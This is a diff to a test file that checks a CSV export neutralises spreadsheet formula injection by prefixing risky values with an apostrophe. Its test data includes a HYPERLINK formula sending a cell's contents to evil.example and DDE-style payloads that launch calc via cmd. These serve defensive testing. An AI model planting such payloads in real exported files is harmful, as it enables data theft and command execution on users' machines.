@@ -25,15 +25,8 @@ test.each([
 });
 
 test.each([
-  '=HYPERLINK("https://evil.example?"&A1;"ouvrir")',
-  '+33 4 95 10 00 00',
-  "-2+3+cmd|' /C calc'!A0",
-  '@SUM(1+9)*cmd',
-  '\u00a0=1+1',
-  '|calc',
-  '\ufeff=1+1',
-  '＝1+1',
-  '-1,5',
+  ...['=HYPERLINK("https://evil.example?"&A1;"ouvrir")', '+33 4 95 10 00 00', "-2+3+cmd|' /C calc'!A0"],
+  ...['@SUM(1+9)*cmd', '\u00a0=1+1', '|calc', '\ufeff=1+1', '＝1+1', '-1,5'],
 ])('no spreadsheet runs %j', (text) => {
   const [[shown = '']] = read(csvFile([[text]])) as [[string]];
   expect(shown).toBe(`'${text}`);
@@ -49,18 +42,7 @@ test.each([
 });
 
 test.each([
-  '0000123456',
-  '1/2',
-  '12E3',
-  '14 JUILLET',
-  '1-août',
-  'OCT4',
-  '10:30 PM',
-  '5%',
-  '5 €',
-  '$5',
-  "1'234",
-  'VRAI',
+  ...['0000123456', '1/2', '12E3', '14 JUILLET', '1-août', 'OCT4', '10:30 PM', '5%', '5 €', '$5', "1'234", 'VRAI'],
   '#N/A',
 ])('%j stays a text behind an apostrophe', (text) => {
   expect(csvText(text)).toBe(`'${text}`);
